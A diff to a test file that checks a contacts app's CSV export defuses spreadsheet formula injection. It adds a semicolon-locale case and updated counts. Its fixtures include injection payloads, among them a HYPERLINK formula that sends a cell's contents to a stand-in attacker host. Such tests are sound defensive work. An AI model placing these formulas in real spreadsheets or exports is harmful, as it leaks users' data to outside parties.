@@ -830,6 +830,8 @@ test('CSV export: a cell a spreadsheet would run as a formula is written as text
     { email: '=cmd@example.com', firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '@SUM(1+1)', tags: ['=tag', 'vip'] },
     { email: 'minus@example.com', phone: '+16135550101', firstName: '-2+3', lastName: "'=already quoted" },
     { email: 'apostrophe@example.com', firstName: "'t Hooft", lastName: '+Plus', tags: ['-x'] },
+    // A spreadsheet that splits columns on ";" (many European locales) would start a cell at =.
+    { email: 'semi@example.com', firstName: 'x;=1+2' },
   ];
   for (const body of hostile) {
     const res = await s.request('POST', '/contacts', { token, body });
@@ -839,7 +841,8 @@ test('CSV export: a cell a spreadsheet would run as a formula is written as text
   assert.equal(dump.status, 200, dump.text);
   const [header, ...rows] = csvCells(dump.text);
   assert.equal(header!.join(','), 'id,email,phone,firstName,lastName,tags,attributes,createdAt,updatedAt');
-  assert.equal(rows.length, 3);
+  assert.equal(rows.length, 4);
+  assert.ok(dump.text.includes(',"x;=1+2",'), 'a cell with ; is quoted, so that no locale splits it');
   for (const row of rows)
     for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^[+-]\d+$/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
   const cells = rows.flat();
@@ -861,7 +864,7 @@ test('CSV export: a cell a spreadsheet would run as a formula is written as text
   const target = await s.otherWorkspace();
   const back = await importText(s, target.token, dump.text, CSV);
   assert.equal(back.status, 200, back.text);
-  assert.deepEqual([back.body.created, back.body.errorCount], [3, 0], back.text);
+  assert.deepEqual([back.body.created, back.body.errorCount], [4, 0], back.text);
   const shape = (c: any) => ({ email: c.email, phone: c.phone, firstName: c.firstName, lastName: c.lastName, tags: [...c.tags].sort() });
   const byEmail = (list: any[]) => list.map(shape).sort((a, b) => a.email.localeCompare(b.email));
   assert.deepEqual(byEmail(await contactsOf(s, target.token)), byEmail(await contactsOf(s, token)));
